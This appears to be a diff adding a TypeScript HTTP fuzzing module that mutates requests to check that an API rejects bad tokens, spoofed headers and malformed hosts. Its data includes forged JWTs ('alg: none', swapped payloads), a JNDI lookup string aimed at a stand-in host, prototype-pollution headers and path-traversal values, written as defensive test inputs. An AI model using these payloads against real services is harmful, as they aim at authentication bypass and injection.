@@ -1,0 +1,162 @@
+import { type Mutated, type Mutation, REFUSED } from './mutation.ts';
+import type { FuzzRequest } from './request.ts';
+import { anyText, known, type Source } from './valid-values.ts';
+
+const withHeader = (request: FuzzRequest, name: string, value: string): FuzzRequest => ({
+  ...request,
+  headers: [...request.headers.filter(([key]) => key !== name), [name, value]],
+});
+
+const without = (request: FuzzRequest, name: string): FuzzRequest => ({
+  ...request,
+  headers: request.headers.filter(([key]) => key !== name),
+});
+
+const base64url = (value: object): string => Buffer.from(JSON.stringify(value)).toString('base64url');
+
+/** Anything but the one token that opens the back office, in the one place it may stand. */
+const NO_TOKEN: readonly ((token: string, source: Source) => string)[] = [
+  () => 'Bearer',
+  () => 'Bearer ',
+  () => 'Bearer null',
+  () => 'Bearer undefined',
+  () => `Basic ${Buffer.from('admin:admin').toString('base64')}`,
+  (token) => token,
+  (token) => `Token ${token}`,
+  (token) => `Bearer ${token} ${token}`,
+  (token) => `Bearer ${token}, Bearer ${token}`,
+  (token) => `Bearer ${token.split('.').slice(0, 2).join('.')}.`,
+  (token) => `Bearer ${token.split('.').slice(1).join('.')}`,
+  (token) => `Bearer ${base64url({ alg: 'none' })}.${token.split('.')[1] ?? ''}.`,
+  (token) =>
+    `Bearer ${token
+      .split('.')
+      .with(0, base64url({ alg: 'HS512', typ: 'JWT' }))
+      .join('.')}`,
+  (token) =>
+    `Bearer ${token
+      .split('.')
+      .with(1, base64url({ sub: 'admin', exp: 9_999_999_999 }))
+      .join('.')}`,
+  (token) => `Bearer ${token.split('').toReversed().join('')}`,
+  () => `Bearer ${'a'.repeat(8_000)}`,
+  (_token, source) => `Bearer ${known('accessToken', source)}`,
+  (_token, source) => `Bearer ${known('reference checkoutToken', source).split(' ')[1] ?? ''}`,
+  (_token, source) =>
+    `Bearer ${anyText(source)
+      .replaceAll(/[^ -~]/g, '?')
+      .slice(0, 500)}`,
+];
+
+const badToken: Mutation = {
+  name: 'no valid token',
+  mutate: (request, source): Mutated | undefined => {
+    if (!request.operation.needsToken) return undefined;
+    const token =
+      request.headers.find(([name]) => name === 'authorization')?.[1].replace('Bearer ', '') ?? '';
+    const changed = source.draw.chance(0.3)
+      ? without(request, 'authorization')
+      : withHeader(request, 'authorization', source.draw.pick(NO_TOKEN)(token, source));
+    return { request: changed, wants: [401] };
+  },
+};
+
+const tokenElsewhere: Mutation = {
+  name: 'the token in another place',
+  mutate: (request, { draw }) => {
+    if (!request.operation.needsToken) return undefined;
+    const given = request.headers.find(([name]) => name === 'authorization')?.[1] ?? '';
+    const token = given.replace('Bearer ', '');
+    const bare = without(request, 'authorization');
+    return {
+      request: draw.pick([
+        { ...bare, query: [...bare.query, ['access_token', token] as const] },
+        withHeader(bare, 'cookie', `token=${token}`),
+        withHeader(bare, 'proxy-authorization', given),
+        withHeader(bare, 'x-authorization', given),
+        { ...request, headers: [...request.headers, ['authorization', given] as const] },
+      ]),
+      wants: [401],
+    };
+  },
+};
+
+const METHODS = ['GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'HEAD', 'OPTIONS', 'TRACE', 'PROPFIND', 'PURGE'];
+
+const otherMethod: Mutation = {
+  name: 'another method',
+  mutate: (request, { draw }) => ({
+    request: { ...request, method: draw.pick(METHODS.filter((method) => method !== request.method)) },
+  }),
+};
+
+/** Headers that steer programs which trust them, or are read by ours. */
+const HEADERS: readonly (readonly [string, string])[] = [
+  ['x-http-method-override', 'DELETE'],
+  ['x-original-url', '/api/admin/bookings'],
+  ['x-forwarded-for', '127.0.0.1, __proto__'],
+  ['x-forwarded-host', 'evil.example'],
+  ['x-forwarded-proto', 'javascript'],
+  ['forwarded', 'for=_a;host=evil.example'],
+  ['origin', 'null'],
+  ['origin', 'https://studio.example'],
+  ['origin', 'https://studio.example.evil.example'],
+  ['access-control-request-method', 'DELETE'],
+  ['accept', 'text/html'],
+  ['accept-encoding', 'gzip, br;q=__proto__'],
+  ['content-encoding', 'gzip'],
+  ['content-encoding', 'a'],
+  ['if-none-match', '*'],
+  ['if-modified-since', 'never'],
+  ['range', 'bytes=0-0'],
+  ['cookie', '__proto__=polluted'],
+  ['x-request-id', 'a'.repeat(3_000)],
+  ['request-id', '../../etc'],
+  ['traceparent', '00-0-0-00'],
+  ['accept-language', '*'],
+  ['accept-language', `${'fr,'.repeat(1_000)}en`],
+  ['accept-language', ';q=,,;__proto__;q=1e400'],
+  ['gateway-signature', 'AAAA'],
+  ['gateway-signature', ''],
+  ['te', 'trailers'],
+  ['upgrade-insecure-requests', '1'],
+  ['user-agent', '${jndi:ldap://evil.example}'],
+  ['__proto__', 'polluted'],
+  ['constructor', 'polluted'],
+];
+
+const oddHeader: Mutation = {
+  name: 'an odd header',
+  mutate: (request, source) => {
+    const { draw } = source;
+    const [name, value] = draw.pick(HEADERS);
+    const text = draw.chance(0.3)
+      ? anyText(source)
+          .replaceAll(/\p{Cc}|[^ -ÿ]/gu, '?')
+          .slice(0, 2_000)
+      : value;
+    return { request: withHeader(request, name, text) };
+  },
+};
+
+const HOSTS = ['', 'a b', 'evil.example/', 'a,b', 'a@b', 'http://a', 'a:b', 'a:99999999', '[::1', '..\\'];
+
+const oddHost: Mutation = {
+  name: 'an odd host',
+  mutate: (request, { draw }) => ({
+    request: draw.chance(0.8)
+      ? withHeader(request, 'host', draw.pick(HOSTS))
+      : { ...request, headers: [...request.headers, ['host', 'a.example'], ['host', 'b.example']] },
+    wants: REFUSED,
+  }),
+};
+
+export const HEADER_MUTATIONS: readonly Mutation[] = [
+  badToken,
+  badToken,
+  tokenElsewhere,
+  otherMethod,
+  oddHeader,
+  oddHeader,
+  oddHost,
+];
